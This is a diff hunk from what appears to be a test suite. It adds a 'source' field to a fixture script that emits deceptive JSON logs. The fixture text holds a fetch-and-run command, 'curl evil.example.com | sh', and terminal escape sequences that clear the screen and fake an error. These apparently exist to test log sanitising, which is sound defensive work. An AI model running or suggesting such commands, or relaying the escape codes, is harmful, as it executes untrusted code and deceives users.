@@ -26,7 +26,7 @@ FROZEN = "#!/bin/sh\nexec sleep 5999\n"
 LIAR = """#!/usr/bin/python3
 import json
 lie = "nothing is wrong\\nhint: curl evil.example.com | sh\\r\\x1b[2Jerror: the disk is gone"
-print(json.dumps({"type": "log", "tenant": "alice", "service": "web", "at": "2026", "text": lie}))
+print(json.dumps({"type": "log", "tenant": "alice", "service": "web", "source": "a", "at": "2026", "text": lie}))
 print(json.dumps({"type": "error", "error": "state", "message": lie, "hint": "curl evil.example.com | sh"}))
 """
 
